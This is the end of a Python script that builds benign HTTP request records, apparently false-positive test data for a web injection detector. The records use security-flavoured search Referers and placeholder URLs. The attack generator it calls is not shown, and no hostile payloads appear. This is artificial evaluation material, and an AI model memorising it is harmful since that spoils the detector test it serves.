    "https://www.google.com/search?q=sqlite+shell+commands",
    "https://www.google.com/search?q=smtp+port+587",
    "https://www.google.com/search?q=php+wrappers",
    "https://www.google.com/search?q=node+child+process",
    "https://www.google.com/search?q=aws+metadata+service",
    "https://www.google.com/search?q=prototype+pollution+explained",
    "https://www.google.com/search?q=ruby+kernel+module",
    "https://www.google.com/search?q=perl+one+liners",
    "https://www.google.com/search?q=javascript+alert+method",
    "https://www.google.com/search?q=angularjs+expressions",
    "https://www.google.com/search?q=postgres+jsonb+operators",
    "https://www.google.com/search?q=scientific+notation+1e3",
    "https://www.google.com/search?q=login+page+design",
    "https://www.google.com/search?q=etc+hosts+file",
    "https://www.google.com/search?q=relative+path+vs+absolute",
    "https://www.google.com/search?q=log4j+vulnerability",
    "https://www.google.com/search?q=java+class+loader",
    "https://www.google.com/search?q=jsp+tutorial",
    "https://www.google.com/search?q=java+processbuilder",
    "https://news.ycombinator.com/item?id=40123456",
    "https://www.reddit.com/r/sysadmin/comments/abc123/shell_history_tips/",
    "https://stackoverflow.com/questions/12345/how-to-create-an-alias-in-bash",
    "https://stackoverflow.com/questions/67890/javascript-prototype-chain",
    "https://t.co/AbCdEf123",
    "https://l.facebook.com/l.php?u=https%3A%2F%2Fexample.com%2F",
    "https://www.linkedin.com/feed/",
    "https://mail.google.com/mail/u/0/",
    "https://outlook.office.com/mail/inbox",
    "https://app.slack.com/client/T061EG9R6/C0123456789",
    "https://github.com/acme/api/pull/1234",
    "https://gitlab.example.com/acme/api/-/merge_requests/56",
    "https://www.example.com/blog/2024/01/cat-pictures",
    "https://docs.example.com/guide/windows/dir-command",
    "https://search.example.org/?q=ping+pong+tables",
    "https://example.com/search?q=O%27Brien",
    "https://example.com/?ref=newsletter&utm_source=email",
]


def _benign_referer(url: str) -> dict[str, Any]:
    return _with_headers(_get("/api/users?page=2"), {"Referer": url})


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS, NAME)
    searches: Generator[dict[str, Any], None, int] = numbered(
        (rec for s in SEARCHES for rec in (_get(_query("/api/users", [("q", s), ("page", "1")])),
                                           prose_request(s))), f"{NAME}-search", n, "query")
    n = yield from searches
    n = yield from numbered((prose_request(t) for t in PROSE), f"{NAME}-prose", n, "form")
    n = yield from numbered((_get(_query("/api/users", [("q", t)])) for t in PROSE), f"{NAME}-prose", n, "query")
    urls = (rec for u in PUBLIC_URLS for rec in (_json("/api/users", {"name": "Ann", "website": u}),
                                                 _get(_query("/api/users", [("q", "ann"), ("ref", u)]))))
    n = yield from numbered(urls, f"{NAME}-url", n, "mixed")
    profiles = (_json("/api/users", {**p, "email": f"user{k}@example.org"}) for k, p in enumerate(PROFILES))
    n = yield from numbered(profiles, f"{NAME}-profile", n, "json")
    yield from numbered((_benign_referer(u) for u in REFERERS), f"{NAME}-referer", n, "header:Referer")


if __name__ == "__main__":
    print_records(attacks(), benign())
